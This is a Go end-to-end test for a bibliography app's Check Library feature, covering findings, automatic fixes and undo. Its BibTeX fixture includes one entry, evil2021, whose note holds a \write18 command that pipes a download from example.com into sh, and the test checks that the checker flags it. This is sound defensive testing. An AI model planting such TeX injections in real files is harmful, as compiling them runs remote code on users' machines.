package main

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/bibshelf/bibshelf/app"
)

// TestEndToEndCheckLibrary imports a .bib with known problems into the real window, opens Edit ›
// Check Library with the keyboard, clicks a finding (its entry is selected), clicks Fix All
// Certain (the library's entries change, and the fixes are listed), and takes them all back
// with one Ctrl+Z.
func TestEndToEndCheckLibrary(t *testing.T) {
	needXdotool(t)
	bin := smokeBinary(t)
	dir := t.TempDir()
	lib, _ := e2eLibrary(t, filepath.Join(dir, "library.sqlite"))
	src := `@article{lawler85, author = {Lawler, Eugene L. and others}, title = {Shop scheduling},
  journal = {Operations Research}, year = {1985}, pages = {501-506}}

@article{smith2020, author = {Smith, John and et al.}, title = {A study of things},
  journal = {Journal of Things}, year = {2020}, pages = {1--10}}

@misc{evil2021, author = {Mallory, Eve}, title = {Harmless notes}, year = {2021},
  note = {\write18{curl example.com | sh}}}

@article{nojournal2019, author = {Doe, Jane}, title = {Without a venue}, year = {2019}}
`
	file := filepath.Join(dir, "problems.bib")
	if err := os.WriteFile(file, []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	w := openWindow(t, dir, bin, lib.path, nil, file)
	w.waitFor("the import's report", func(s app.ProbeState) bool { return s.Dialog && s.Settled && s.Window != 0 })
	w.key("Escape")
	st := w.waitFor("the report closed", func(s app.ProbeState) bool { return !s.Dialog && s.Settled })

	// Library › Check Library, through the menu bar with the keyboard.
	w.click("search")
	w.menu("Library", "Check Library")
	want := []string{
		"error: evil2021: note: \\write18 runs a shell command when shell escape is on (dangerous-tex)",
		`warning: lawler85: pages "501-506": a page range takes -- (an en dash), not - (pages)`,
		`warning: smith2020: author: "et al." is read as a name: write "and others" (et-al)`,
		"warning: nojournal2019: @article has no journal, which BibTeX's standard styles require (missing-field)",
		// The end-to-end library's book, whose year holds a sort key.
		`warning: knuth86: year "{\noopsort{1986c}}1986" is not a four-digit year: styles sort and label by it, and biber reads no year from it (year)`,
	}
	findings := func(s app.ProbeState) bool {
		for _, f := range want {
			if !slices.Contains(s.Findings, f) {
				return false
			}
		}
		return s.Settled && len(s.Findings) == len(want)
	}
	st = w.steady("the findings", func(s app.ProbeState) bool {
		_, ok := s.Widgets["finding:lawler85:pages"]
		return findings(s) && ok
	})
	if !strings.HasPrefix(st.Checks, "1 error, 4 warnings in 5 of ") {
		t.Errorf("the view says %q", st.Checks)
	}
	if st.Findings[0] != want[0] {
		t.Errorf("the error is not listed first: %v", st.Findings)
	}
	w.screenshot("check-library.png")

	// A finding clicked selects its entry, whose fields the entry pane shows.
	w.click("finding:lawler85:pages")
	w.waitFor("lawler85 selected", func(s app.ProbeState) bool {
		return slices.Equal(s.Selected, []string{"lawler85"}) && s.Entry == "lawler85" && s.Fields["pages"] == "501-506" &&
			strings.Contains(s.Status, `pages "501-506"`)
	})

	// Fix All Certain, clicked with the keyboard in a field of the entry it fixes (a click on
	// a button leaves it there): the two certain fixes, listed, in the library.
	w.click("field:pages")
	w.waitFor("the pages field focused", func(s app.ProbeState) bool { return s.Focused == "field:pages" })
	w.click("checks:fix-all")
	st = w.waitFor("the fixes listed", func(s app.ProbeState) bool { return s.Dialog && s.Settled && s.DialogText != "" })
	for _, line := range []string{"lawler85: pages = {501--506} (pages)", "smith2020: author = {Smith, John and others} (et-al)"} {
		if !strings.Contains(st.DialogText, line) {
			t.Errorf("the fixes listed are %q, without %q", st.DialogText, line)
		}
	}
	w.screenshot("check-library-fixed.png")
	lib.waitField(t, "lawler85", "pages", "501--506")
	lib.waitField(t, "smith2020", "author", "Smith, John and others")
	w.key("Escape")
	st = w.waitFor("the findings left", func(s app.ProbeState) bool {
		return !s.Dialog && s.Settled && len(s.Findings) == 3 && slices.Contains(s.Findings, want[0]) && slices.Contains(s.Findings, want[3])
	})

	// The dialog closed, the findings have the keyboard, and the field its fixed value: one
	// Ctrl+Z takes both fixes back.
	w.waitFor("the findings focused", func(s app.ProbeState) bool { return s.Focused == "checks" })
	w.steady("the window settled", func(s app.ProbeState) bool { return s.Settled })
	if e := lib.entry(t, "lawler85"); e.Get("pages") != "501--506" {
		t.Fatalf("the field that lost the keyboard wrote its old value back: pages %q", e.Get("pages"))
	}
	w.key("ctrl+z")
	lib.waitField(t, "lawler85", "pages", "501-506")
	lib.waitField(t, "smith2020", "author", "Smith, John and et al.")
	w.waitFor("the findings back", findings)
	if e := lib.entry(t, "evil2021"); e.Get("note") != `\write18{curl example.com | sh}` {
		t.Errorf("evil2021's note is %q", e.Get("note"))
	}
}
